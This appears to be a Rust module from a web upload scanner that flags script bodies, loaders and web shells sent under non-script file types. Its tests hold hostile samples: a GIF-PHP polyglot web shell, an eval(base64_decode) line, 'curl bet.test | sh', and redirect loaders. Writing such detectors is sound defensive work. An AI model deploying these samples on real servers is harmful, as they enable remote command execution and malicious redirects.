//! Stage 5, upload folders: a body that is a script whatever type it is sent as. A kit
//! that cannot give its loader a script type saves it as `x.txt`, `x.dat` or with no
//! extension, and the CMS serves it as `text/plain` or `application/octet-stream`: a
//! browser without the script MIME check, a `<script src>` on a page that trusts the
//! upload, an `eval(fetch(…))` loader, or a downloader runs it; a web shell (`<?php`,
//! `<%@`) is served as a download. In an upload folder that refuses scripts, such a body
//! is refused whatever its type (`upload.doorway`).
//!
//! Judged on the first bytes only (the sniffing window): the start of a JavaScript program
//! (after comments and white space) or a strong script token, a server-script opener
//! anywhere (`GIF89a<?php` polyglots), a shebang. Text files, CSVs, PDFs and images start
//! with none of these.

/// Server-script openers, found anywhere in the window.
const SERVER: &[&[u8]] = &[b"<?php", b"<?=", b"<%@", b"<%=", b"<% ", b"<script runat"];

/// How a JavaScript program starts (after comments and white space).
const JS_STARTS: &[&[u8]] = &[
    b"(function",
    b"!function",
    b"!(function",
    b"+function",
    b"~function",
    b"void ",
    b"async ",
    b"class ",
    b"jQuery(",
    b"$(",
    b";(function",
    b"(()=>",
    b"(() =>",
    b"(async",
    b"var ",
    b"let ",
    b"const ",
    b"function ",
    b"function(",
    b"\"use strict\"",
    b"'use strict'",
    b"window.",
    b"window[",
    b"document.",
    b"self.",
    b"top.",
    b"location",
    b"eval(",
    b"if(",
    b"if (",
    b"try{",
    b"try {",
    b"import ",
    b"export ",
    b"setTimeout(",
    b"new Function",
];

/// Tokens that only a script holds, found anywhere in the window.
const JS_TOKENS: &[&[u8]] = &[
    b"eval(",
    b"document.write(",
    b"String.fromCharCode(",
    b"atob(",
    b"window.location",
    b"location.href=",
    b"location.href =",
    b"location.replace(",
    b"location.assign(",
    b"document.createElement(",
    b"new Function(",
    b".submit()",
    b"location=",
    b"location =",
    b"location.href",
    b"top.location",
    b"self.location",
    b"document.location",
    b"window.open(",
    b"fromCharCode(",
    b"unescape(",
    b"document.referrer",
    b"navigator.userAgent",
];

/// Why `head` (the decoded start of a body) is a script, if it is one.
pub(crate) fn script_like(head: &[u8]) -> Option<&'static str> {
    let lower = head.to_ascii_lowercase();
    if SERVER
        .iter()
        .any(|s| memchr::memmem::find(&lower, s).is_some())
    {
        return Some("a server script");
    }
    let body = start(head);
    if body.starts_with(b"#!") {
        return Some("a shebang script");
    }
    if JS_STARTS.iter().any(|s| body.starts_with(s)) {
        return Some("a JavaScript program");
    }
    JS_TOKENS
        .iter()
        .any(|t| memchr::memmem::find(head, t).is_some())
        .then_some("script code")
}

/// Whether a file name is a script's: its last extension is `js`, `mjs` or `cjs`.
pub(crate) fn script_name(name: &str) -> bool {
    name.rsplit_once('.').is_some_and(|(_, ext)| {
        let ext = ext.trim_end_matches([' ', '.']);
        ["js", "mjs", "cjs"]
            .iter()
            .any(|e| e.eq_ignore_ascii_case(ext))
    })
}

/// `head` past a BOM, white space and JavaScript comments.
fn start(head: &[u8]) -> &[u8] {
    let mut s = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
    loop {
        s = s.trim_ascii_start();
        if let Some(rest) = s.strip_prefix(b"//") {
            let nl = memchr::memchr(b'\n', rest).map_or(rest.len(), |i| i + 1);
            s = &rest[nl..];
        } else if let Some(rest) = s.strip_prefix(b"/*") {
            let end = memchr::memmem::find(rest, b"*/").map_or(rest.len(), |i| i + 2);
            s = &rest[end..];
        } else {
            return s;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::script_like;

    #[test]
    fn loaders_and_shells_are_scripts_whatever_their_start() {
        for body in [
            &b"(function(){location.replace('//bet.test')})();"[..],
            b"\xef\xbb\xbf/* jquery */\n// x\nvar u='htt'+'ps://bet.test';",
            b"  !function(e){e.location='//bet.test'}(window)",
            b"GIF89a<?php system($_GET['c']); ?>",
            b"<?PHP eval(base64_decode($x));",
            b"<%@ Page Language=\"C#\" %>",
            b"#!/bin/sh\ncurl bet.test | sh",
            b"x=1;y=2;eval(atob('bG9j'))",
            b"window.location='https://bet.test/'",
        ] {
            assert!(
                script_like(body).is_some(),
                "{}",
                String::from_utf8_lossy(body)
            );
        }
    }

    #[test]
    fn text_csv_pdf_and_images_are_not_scripts() {
        for body in [
            &b"Danh sach ho so nop ngay 01/05/2024\nNguyen Van A, 1980\n"[..],
            b"ten,ngay,so\nA,2024-05-01,3\n",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
            b"Huong dan: chon bieu mau, dien thong tin, bam Gui.\n",
            b"",
        ] {
            assert!(
                script_like(body).is_none(),
                "{}",
                String::from_utf8_lossy(body)
            );
        }
    }
}
